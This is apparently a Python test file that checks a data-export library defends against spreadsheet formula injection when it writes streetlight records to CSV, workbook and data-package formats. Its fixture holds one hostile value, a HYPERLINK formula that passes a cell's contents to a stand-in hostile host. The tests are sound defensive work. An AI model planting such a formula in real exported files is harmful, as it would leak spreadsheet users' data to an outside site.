"""Who reads a file with a spreadsheet gets no formula; a program gets the text as it was sent."""

import io
import zipfile
from typing import Any

import pytest

from synergie import formats
from synergie.schemas.assets.light_point import LightPointRecord

EVIL = '=HYPERLINK("https://hostile.example?"&A1,"cliquez")'
LAMP: dict[str, Any] = {
    "external_id": "L-1", "cabinet": "A-1", "insee_code": "54430", "luminaire_model": EVIL,
    "location": {"longitude": 6.129, "latitude": 48.773}, "provenance": "partner",
}  # fmt: skip


def written(form: str) -> bytes:
    sink = io.BytesIO()
    formats.write([LightPointRecord.model_validate(LAMP)], sink, format=form)
    return sink.getvalue()


def models(content: bytes) -> list[str | None]:
    with formats.read(io.BytesIO(content)) as result:
        return [one.luminaire_model for one in result.records if isinstance(one, LightPointRecord)]


def cells(content: bytes) -> str:
    """The text of a file, or of the tables in it, quotes of CSV taken off."""
    if content[:2] != b"PK":
        return content.decode("utf-8-sig").replace('""', '"')
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        names = [name for name in packed.namelist() if name.endswith(".csv")]
        return "".join(packed.read(name).decode("utf-8-sig") for name in names).replace('""', '"')


@pytest.mark.parametrize("form", ["light-points-csv-fr", "template-light-points"])
def test_a_file_for_a_spreadsheet_holds_no_formula_and_reads_back(form: str) -> None:
    content = written(form)
    assert f"'{EVIL}" in cells(content)
    assert models(content) == [EVIL]


@pytest.mark.parametrize("form", ["light-points-csv", "data-package"])
def test_a_file_for_programs_holds_the_text_as_it_was_sent(form: str) -> None:
    content = written(form)
    assert EVIL in cells(content)
    assert f"'{EVIL}" not in cells(content)


def test_a_workbook_holds_it_as_a_text_that_nothing_computes() -> None:
    with zipfile.ZipFile(io.BytesIO(written("workbook"))) as packed:
        sheets = [packed.read(n).decode() for n in packed.namelist() if "worksheets/" in n]
    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
